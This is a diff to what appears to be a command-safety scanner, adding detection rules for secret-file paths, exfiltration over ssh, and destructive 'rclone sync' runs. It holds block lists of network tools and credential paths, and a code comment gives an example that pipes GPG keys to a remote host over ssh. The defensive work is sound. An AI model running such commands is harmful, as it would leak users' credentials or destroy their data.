@@ -11,7 +11,7 @@ import type { Command, CommandSpec } from './spec.js';
 export const NETWORK_SENDERS: ReadonlySet<string> = new Set(['curl', 'wget', 'nc', 'ncat', 'netcat', 'socat', 'scp', 'sftp', 'ftp', 'telnet', 'rsync', 'ssh', 'http', 'https', 'xh', 'mail', 'sendmail', 'mutt', 'aws', 'gsutil', 'rclone', 'openssl']);
 /** Private keys, cloud and tool credentials, password databases and dotenv files (not `.env.example`). */
 export const SECRET_MENTION =
-  /((^|\/)\.ssh(\/(id_[\w-]+|[\w-]+_key)\b(?!\.pub)|\/?$)|\.aws\/credentials|(^|\/)\.aws\/?$|\.gnupg\b|\.netrc\b|\.git-credentials\b|\.pgpass\b|\.docker\/config\.json|\.kube\/config|\.config\/gcloud\/(application_default_credentials\.json|credentials\.db|legacy_credentials)|\.azure\/(accessTokens\.json|msal_token_cache)|\/etc\/(g?shadow|passwd|sudoers)\b|(^|[/@=])\.env(\.(local|production|prod|development|dev))?$|\.hearth\/)/;
+  /((^|\/)\.ssh(\/(id_[\w-]+|[\w-]+_key)\b(?!\.pub)|\/?$)|\.aws\/credentials|(^|\/)\.aws\/?$|\.gnupg\b|(^|\/)\.(kube|docker|azure)\/?$|(^|\/)\.config\/gcloud\/?$|\.netrc\b|\.git-credentials\b|\.pgpass\b|\.docker\/config\.json|\.kube\/config|\.config\/gcloud\/(application_default_credentials\.json|credentials\.db|legacy_credentials)|\.azure\/(accessTokens\.json|msal_token_cache)|\/etc\/(g?shadow|passwd|sudoers)\b|(^|[/@=])\.env(\.(local|production|prod|development|dev))?$|\.hearth\/)/;
 /** Commands whose output is a secret: a private key export, a keychain password. */
 export const SECRET_PRINTERS: readonly RegExp[] = [/^gpg2? (.* )?--export-secret(-sub)?-keys\b/, /^security find-(generic|internet)-password\b.* -w\b/, ];
 /** The whole environment pasted into an argument: `--post-data="$(env)"`. */
@@ -42,6 +42,8 @@ function download(command: Command, scan: Scan): void {
   if (namesItself) for (const url of urls) scan.downloads.add(url.slice(url.lastIndexOf('/') + 1));
 }
 
+const RCLONE_DRY_RUN = /^(-n|--dry-run)$/;
+
 const SSH_VALUES = new Set(['-b', '-c', '-D', '-E', '-e', '-F', '-I', '-i', '-J', '-L', '-l', '-m', '-O', '-o', '-p', '-Q', '-R', '-S', '-W', '-w', '-B', '--ssh', '--port']);
 /** ssh modes that open no shell: no command (-N), a forward or control request, a config query. */
 const NO_SHELL = /^-[a-zA-Z]*[NTGVQWO]|^-[LRD]$/;
@@ -66,6 +68,9 @@ export function judgeRemoteLogin(argv: readonly string[], scan: Scan): void {
   }
   const user = args[args.indexOf('-l') + 1];
   if (destination?.startsWith('root@') === true || (args.includes('-l') && user === 'root')) flag(scan, REASONS.sudo);
+  // ssh carries its stdin to the remote command (`tar czf - ~/.gnupg | ssh host 'cat > g.tgz'`): a secret the line
+  // read before ssh starts is sent (what the remote command itself names stays on the remote host).
+  if (scan.mentionsSecret) flag(scan, REASONS.exfiltration);
   const command = args.slice(at + 1);
   if (destination !== undefined && command.length === 0 && !destination.startsWith('git@') && !args.some((a) => NO_SHELL.test(a))) flag(scan, REASONS.remoteShell);
 }
@@ -82,6 +87,7 @@ export const NETWORK_SPECS: readonly CommandSpec[] = [
     if (c.operands.some((o) => o.includes(UNKNOWN)) && /\$\(|`/.test(c.invocation.source)) flag(s, REASONS.exfiltration);
   } },
   { names: ['socat'], check: (c, s) => (c.operands.some((a) => /^(exec|system):/i.test(a)) ? flag(s, REASONS.remoteShell) : undefined) },
-  { names: ['rclone'], rules: [{ sub: 'purge|delete|deletefile|rmdir|rmdirs|cleanup', reason: REASONS.cloudDelete }] },
+  // `rclone sync SRC DST` deletes whatever DST has that SRC lacks (`./empty` empties it); `-n`/`--dry-run` changes nothing.
+  { names: ['rclone'], rules: [{ sub: 'purge|delete|deletefile|rmdir|rmdirs|cleanup', unless: RCLONE_DRY_RUN, reason: REASONS.cloudDelete }, { sub: 'sync|bisync', unless: RCLONE_DRY_RUN, reason: REASONS.cloudDelete }] },
   { names: ['telnet', 'sftp', 'ftp', 'mail', 'sendmail', 'http', 'https', 'xh'] },
 ];
